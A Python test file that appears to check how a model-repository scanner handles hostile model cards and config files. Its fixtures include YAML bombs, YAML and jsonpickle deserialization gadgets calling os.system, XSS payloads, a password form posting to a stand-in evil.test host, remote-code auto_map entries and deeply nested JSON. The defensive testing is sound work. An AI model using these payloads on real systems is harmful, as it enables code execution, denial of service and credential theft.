"""Cards and configurations: what they make a reader build, follow, fetch or show."""

import json

from tests.attacks.corpus import hostile, kept, refused

CARD, CONFIG = "README.md", "config.json"
SHOWN = {"verdict": "safe"}


def card(head="", body="A model.\n"):
    return f"---\n{head}\n---\n{body}".encode()


@hostile(CARD, kept("text", **SHOWN))
def a_yaml_bomb():
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return card("\n".join([*lines, "license: *a11"]))


@hostile(CARD, kept("text", **SHOWN))
def an_anchor_that_holds_itself():
    return card("a: &a [*a]\nlicense: mit")


@hostile(CARD, kept("text", "builds Python objects", **SHOWN))
def yaml_that_calls(canary):
    return card(f"a: !!python/object/apply:os.system [{canary.command!r}]\nlicense: mit")


@hostile(CARD, kept("text", **SHOWN))
def yaml_a_hundred_thousand_deep():
    return card("tags: " + "[" * 30_000)


@hostile(CARD, kept("text", **SHOWN))
def yaml_of_a_megabyte():
    return card("tags: [" + "x, " * 300_000 + "]")


@hostile(CARD, kept("text", **SHOWN))
def yaml_with_a_merge_that_never_ends():
    return card("a: &a\n  <<: *a\n  b: c")


@hostile(CARD, kept("text", absent=("<script>alert", "<ScRiPt", "<script src=//"), **SHOWN))
def a_script_in_the_card():
    return card(body="# Hi\n\n<script>alert(1)</script>\n\n<ScRiPt src=//evil.test></sCrIpT>\n")


@hostile(CARD, kept("text", absent=('<a href="javascript', '<a href=" ', '<a href="JaVa'), **SHOWN))
def links_that_are_scripts():
    return card(
        body="[a](javascript:alert) [b](JaVaScRiPt:alert) [c](java\tscript:alert)\n\n"
        '<a href="javascript&#58;alert">d</a> <a href=" &#14; javascript:alert">e</a>\n'
    )


@hostile(
    CARD,
    kept("text", absent=("<img src=x", "<svg onload", "<a onclick", '" onerror="x">'), **SHOWN),
)
def attributes_that_are_scripts():
    return card(
        body='<img src=x onerror=x>\n\n<svg onload=x><a onclick="x">b</a></svg>\n\n'
        '![a](x" onerror="x)\n'
    )


@hostile(
    CARD,
    kept(
        "text",
        absent=("<iframe", "<object", "<embed", "<base", '<meta http-equiv="refresh'),
        **SHOWN,
    ),
)
def frames_and_objects():
    return card(
        body='<iframe src="//evil.test"></iframe><object data="x"></object><embed src="x">\n\n'
        '<base href="//evil.test">\n\n<meta http-equiv="refresh" content="0;url=//evil.test">\n'
    )


@hostile(
    CARD,
    kept(
        "text",
        absent=('<form action="//evil', '<input type="password" name="p"', "<div style"),
        **SHOWN,
    ),
)
def a_form_that_asks_for_a_password():
    return card(
        body='<form action="//evil.test"><input type="password" name="p"></form>\n\n'
        '<div style="position:fixed;inset:0">Sign in again</div>\n'
    )


@hostile(CARD, kept("text", absent=('href="data:', 'href="vbscript'), **SHOWN))
def links_to_data():
    return card(body="[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:msgbox)\n")


@hostile(CARD, kept("text", absent=("<b>bold</b>license",), **SHOWN))
def html_in_the_head():
    return card('license: "<b>bold</b>license"\nsummary: "<img src=x onerror=y>"')


@hostile(CARD, kept("text", **SHOWN))
def characters_that_turn_the_line():
    return card('license: "\\u202etim"\ntags: ["a\\u2066b", "\\0"]')


@hostile(CARD, kept("text", **SHOWN))
def brackets_without_end():
    return card(body="[" * 50_000 + "](" * 50_000)


@hostile(CARD, kept("text", **SHOWN))
def quotes_within_quotes():
    return card(body="> " * 20_000 + "deep\n")


@hostile(CARD, kept("text", **SHOWN))
def stars_without_end():
    return card(body="*a **b " * 20_000)


@hostile(CARD, kept("text", **SHOWN))
def a_table_of_ten_thousand_columns():
    return card(body="|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n" + "|x|\n" * 100)


@hostile(CARD, kept("opaque"))
def a_card_of_noise():
    return bytes(range(256)) * 10


@hostile(CONFIG, refused("nested deeper than 64"))
def a_config_a_hundred_thousand_deep():
    return b'{"a":' * 100_000 + b"1" + b"}" * 100_000


@hostile(CONFIG, refused("nested deeper than 64"))
def a_config_of_open_brackets():
    return b"[" * 100_000


@hostile(CONFIG, refused("stands twice"))
def a_config_with_two_answers():
    return b'{"architectures": ["Good"], "architectures": ["Evil"]}'


@hostile(CONFIG, refused("stands twice"))
def a_config_with_two_answers_deep_inside():
    return b'{"a": [{"b": {"c": 1, "\\u0063": 2}}]}'


@hostile(CONFIG, refused("U+0000"))
def a_config_with_a_nul():
    return b'{"a": "b\\u0000c"}'


@hostile(CONFIG, refused("half a character"))
def a_config_with_half_a_character():
    return b'{"a": "\\udfff"}'


@hostile(CONFIG, refused("half a character"))
def a_config_with_half_a_character_for_a_key():
    return b'{"\\ud800": 1}'


@hostile(CONFIG, refused("not a JSON number"))
def a_config_with_nan():
    return b'{"a": NaN}'


@hostile(CONFIG, refused("too large"))
def a_config_with_an_infinite_number():
    return b'{"a": 1e999}'


@hostile(CONFIG, refused("not valid JSON"))
def a_config_with_a_number_of_ten_thousand_digits():
    return b'{"a": ' + b"9" * 10_000 + b"}"


@hostile(CONFIG, kept("json", **SHOWN))
def a_config_with_a_number_beyond_64_bits():
    return b'{"a": 1' + b"0" * 100 + b', "architecture": {"name": -1' + b"0" * 30 + b"}}"


@hostile(CONFIG, kept("json", **SHOWN))
def a_signature_of_nonsense():
    ports = [{"name": "x", "dtype": "float32", "shape": [10**30, -5, None, {"a": []}]}]
    return json.dumps({"signature": {"inputs": ports, "outputs": "all"}}).encode()


@hostile(CONFIG, refused("not UTF-8"))
def a_config_in_another_encoding():
    return '{"a": "ü"}'.encode("utf-16")


@hostile(CONFIG, refused("not UTF-8"))
def a_config_in_latin_1():
    return '{"a": "ü"}'.encode("latin-1")


@hostile(CONFIG, refused("not valid JSON"))
def a_config_with_a_comment():
    return b'{"a": 1, // and more\n}'


@hostile(CONFIG, refused("not valid JSON"))
def a_config_that_is_a_program():
    return b"__import__('os').system('true')"


@hostile(CONFIG, refused("not valid JSON"))
def a_config_with_more_after_it():
    return b'{"a": 1}{"a": 2}'


@hostile(CONFIG, kept("json", "auto_map", **SHOWN))
def a_config_that_brings_its_own_code():
    return json.dumps({"auto_map": {"AutoModel": "evil--repo.modeling.Evil"}}).encode()


@hostile(CONFIG, kept("json", "auto_map", **SHOWN))
def a_config_that_hides_what_it_brings():
    return b'{"\\u0061uto_map": {"AutoModel": "modeling.Evil"}}'


@hostile("tokenizer_config.json", kept("json", "trust_remote_code", **SHOWN))
def a_tokenizer_that_wants_to_be_trusted():
    return json.dumps({"trust_remote_code": True}).encode()


@hostile("tokenizer.json", kept("json", "auto_map", **SHOWN))
def a_tokenizer_that_brings_code_after_megabytes():
    return b'{"a": "' + b"x" * (5 << 20) + b'", "auto_map": {}}'


@hostile("object.json", kept("json", "jsonpickle", **SHOWN))
def json_that_rebuilds_objects():
    return b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}'


@hostile("conf.yaml", kept("text", "builds Python objects", **SHOWN))
def a_configuration_that_calls():
    return b"a: !!python/object/apply:os.system ['true']\n"


@hostile("model.safetensors.index.json", refused("nested deeper"))
def an_index_of_shards_without_end():
    return b'{"weight_map": ' + b'{"a": ' * 500 + b"1" + b"}" * 501
